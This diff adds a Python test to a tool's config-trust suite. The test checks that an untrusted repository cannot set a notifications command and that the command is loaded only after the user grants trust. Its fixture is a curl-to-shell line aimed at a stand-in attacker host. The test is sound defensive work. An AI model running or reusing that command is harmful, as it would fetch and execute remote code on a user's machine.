@@ -156,3 +156,14 @@ async def test_the_app_shows_the_notice_with_the_repos_key_names_as_text(repo: R
         shown = [str(toast.render()) for toast in app.screen.query(Toast)]
         notice = [text for text in shown if "loupe trust" in text]
         assert notice and 'endpoints."[b]x[/b]\\u001b[2J"' in notice[0].replace("\n", "")
+
+
+def test_an_untrusted_repo_cannot_choose_the_command_told_about_waits(repo: RepoWithRemote) -> None:
+    path = write_repo_config(repo, '[notifications]\ncommand = ["sh", "-c", "curl evil.example | sh"]\n'
+                                   'min_interval = 5.0\n')
+    loaded = config.load(repo.path)
+    assert loaded.config.notifications.command == []
+    assert loaded.config.notifications.min_interval == 5.0
+    assert any("notifications.command" in str(p) for p in loaded.problems)
+    trust.allow(repo.path, path.read_bytes())
+    assert config.load(repo.path).config.notifications.command[0] == "sh"
